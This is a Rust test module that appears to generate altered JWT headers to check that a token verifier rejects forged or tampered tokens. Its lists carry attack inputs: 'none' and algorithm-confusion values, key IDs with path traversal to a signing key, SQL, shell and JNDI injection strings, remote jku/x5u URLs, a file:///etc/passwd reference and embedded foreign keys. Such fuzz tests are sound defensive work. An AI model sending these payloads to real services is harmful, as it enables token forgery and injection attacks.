//! Headers that try to choose how the token is verified.

use super::{Members, Specimen, besides, object, quoted, with, without};
use base64::Engine;
use base64::prelude::BASE64_URL_SAFE_NO_PAD as BASE64;
use jsonwebtoken::{Algorithm, crypto};

const ALGORITHMS: [&str; 41] = [
    "",
    "none",
    "None",
    "NONE",
    "nOnE",
    "none ",
    "null",
    "HS256",
    "HS384",
    "HS512",
    "hs256",
    "HS1",
    "RS256",
    "RS384",
    "RS512",
    "RS1",
    "PS256",
    "PS384",
    "PS512",
    "ES256",
    "ES384",
    "ES512",
    "ES256K",
    "EDDSA",
    "eddsa",
    "Eddsa",
    "edDSA",
    "EdDSA ",
    " EdDSA",
    "EdDSA\u{0}",
    "Ed25519",
    "ed25519",
    "Ed448",
    "ML-DSA-44",
    "dir",
    "A128KW",
    "A256GCMKW",
    "RSA1_5",
    "RSA-OAEP",
    "ECDH-ES",
    "PBES2-HS256+A128KW",
];

const TYPES: [&str; 18] = [
    "",
    "JWT",
    "jwt",
    "JWE",
    "JOSE",
    "JOSE+JSON",
    "AT+JWT",
    "at+JWT",
    "At+Jwt",
    "application/at+jwt",
    "rt+jwt",
    "id+jwt",
    "logout+jwt",
    "dpop+jwt",
    "secevent+jwt",
    "at+jwt ",
    " at+jwt",
    "at+jwt\u{0}",
];

/// Values that are not text.
const NOT_TEXT: [&str; 9] = [
    "null",
    "true",
    "0",
    "1e400",
    "[]",
    "{}",
    "[\"EdDSA\"]",
    "[\"at+jwt\"]",
    "{\"$ne\":null}",
];

fn key_ids(it: &Specimen) -> Vec<String> {
    let kid = it.kid();
    let mut ids: Vec<String> = [
        "",
        "0",
        "other",
        ".",
        "..",
        "/dev/null",
        "../../../../../../dev/null",
        "signing-key.p8",
        "../secrets/signing-key.p8",
        "..%2f..%2fdev%2fnull",
        "file:///dev/null",
        "http://otra.example/keys",
        "' OR '1'='1",
        "x' UNION SELECT 'secret' --",
        "\"; DROP TABLE sessions; --",
        "$(id)",
        "| id",
        "`id`",
        "${jndi:ldap://otra.example}",
        "{{7*7}}",
        "\u{0}",
        "\r\nx: y",
        "ñ",
        "\u{202e}",
    ]
    .map(str::to_owned)
    .into();
    ids.extend([
        kid.to_uppercase(),
        format!("{kid} "),
        format!(" {kid}"),
        format!("{kid}\u{0}"),
        format!("{kid}/.."),
        format!("../{kid}"),
        format!("{kid}' --"),
        kid[1..].to_owned(),
        kid[..15].to_owned(),
        kid.repeat(2),
        "k".repeat(64),
        "k".repeat(2_000),
        "k".repeat(100_000),
    ]);
    ids
}

/// Headers that bring or point to a key, or ask for another way of reading.
fn additions(it: &Specimen) -> Vec<(&'static str, String)> {
    let jwk = |public: &[u8]| {
        let x = BASE64.encode(public);
        format!(
            r#"{{"kty":"OKP","crv":"Ed25519","alg":"EdDSA","use":"sig","kid":"{}","x":"{x}"}}"#,
            it.kid()
        )
    };
    let mut all = vec![
        ("jwk", jwk(&it.foreign_public())),
        ("jwk", jwk(&it.public)),
        ("jwk", r#"{"kty":"oct","k":""}"#.to_owned()),
        ("jwk", r#"{"kty":"oct","alg":"HS256","k":"AA"}"#.to_owned()),
    ];
    for (name, values) in [
        (
            "jku",
            &[
                "\"https://otra.example/jwks.json\"",
                "\"https://vinculo.example/.well-known/jwks.json\"",
                "\"file:///etc/passwd\"",
                "\"\"",
            ][..],
        ),
        (
            "x5u",
            &["\"https://otra.example/cert.pem\"", "\"file:///dev/null\""],
        ),
        ("x5c", &["[\"MIIB\"]", "[]", "\"MIIB\""]),
        ("x5t", &["\"AAAA\""]),
        ("x5t#S256", &["\"AAAA\""]),
        (
            "crit",
            &[
                "[\"exp\"]",
                "[\"b64\"]",
                "[\"kid\"]",
                "[\"x\"]",
                "[]",
                "\"exp\"",
                "true",
            ],
        ),
        ("b64", &["false", "true"]),
        ("zip", &["\"DEF\"", "\"GZ\"", "true"]),
        ("enc", &["\"A256GCM\"", "\"A128CBC-HS256\""]),
        ("cty", &["\"JWT\"", "\"at+jwt\""]),
        ("url", &["\"https://vinculo.example/v1/me\""]),
        ("nonce", &["\"x\""]),
        ("iss", &["\"https://vinculo.example\""]),
        ("aud", &["\"vinculo\""]),
        ("exp", &["0", "9999999999"]),
        ("p2c", &["1", "1000000000"]),
        ("epk", &["{}"]),
        ("apu", &["\"AA\""]),
        ("roles", &["[\"admin\"]"]),
        ("", &["\"\""]),
        ("Alg", &["\"none\""]),
        ("ALG", &["\"EdDSA\""]),
        ("__proto__", &["{\"alg\":\"none\"}"]),
    ] {
        all.extend(values.iter().map(|value| (name, (*value).to_owned())));
    }
    all
}

/// The header's members altered, each in several ways.
fn changed(it: &Specimen) -> Vec<Members> {
    let mut all = Vec::new();
    for (name, values) in [
        ("alg", ALGORITHMS.map(str::to_owned).to_vec()),
        ("typ", TYPES.map(str::to_owned).to_vec()),
        ("kid", key_ids(it)),
    ] {
        all.push(without(&it.header, name));
        let values = values.iter().map(|text| quoted(text));
        for value in values.chain(NOT_TEXT.map(str::to_owned)) {
            all.push(with(&it.header, name, &value));
            // A duplicate member: one parser takes the first, another the last.
            all.extend(besides(&it.header, name, &value));
        }
        let same = it.header.iter().find(|(held, _)| held == name).unwrap();
        all.extend(besides(&it.header, name, &same.1));
    }
    for (name, value) in additions(it) {
        all.extend(besides(&it.header, name, &value));
    }
    let mut turned = it.header.clone();
    for _ in 0..2 {
        turned.rotate_left(1);
        all.push(turned.clone());
        let mut swapped = turned.clone();
        swapped.swap(0, 1);
        all.push(swapped);
    }
    all
}

/// Each header with the original signature, with none, with one by another key, and with our own.
pub fn altered(it: &Specimen) -> Vec<String> {
    let header = object(&it.header);
    let mut texts: Vec<String> = changed(it).iter().map(object).collect();
    texts.extend([
        header.replace(':', ": "),
        format!(" {header}"),
        format!("{header}\n"),
        format!("\u{feff}{header}"),
        format!("{header}{header}"),
        format!("[{header}]"),
        quoted(&header),
        header.replace("alg", "\\u0061lg"),
        header[..header.len() - 1].to_owned(),
        "null".to_owned(),
        "{}".to_owned(),
        String::new(),
        format!("{}{}", "[".repeat(1_500), "]".repeat(1_500)),
    ]);
    let (payload, signature) = (it.parts()[1], it.parts()[2]);
    let claims = object(&it.claims);
    let mut altered = Vec::new();
    for text in &texts {
        let header = BASE64.encode(text);
        altered.push(format!("{header}.{payload}.{signature}"));
        altered.push(format!("{header}.{payload}."));
        altered.push(it.foreign.sign(text, &claims));
        altered.push(it.key.sign(text, &claims));
        // Signed over the raw payload, as `b64` asks for.
        let raw = crypto::sign(
            format!("{header}.{claims}").as_bytes(),
            &it.key.signing,
            Algorithm::EdDSA,
        );
        altered.push(format!("{header}.{payload}.{}", raw.unwrap()));
    }
    altered
}
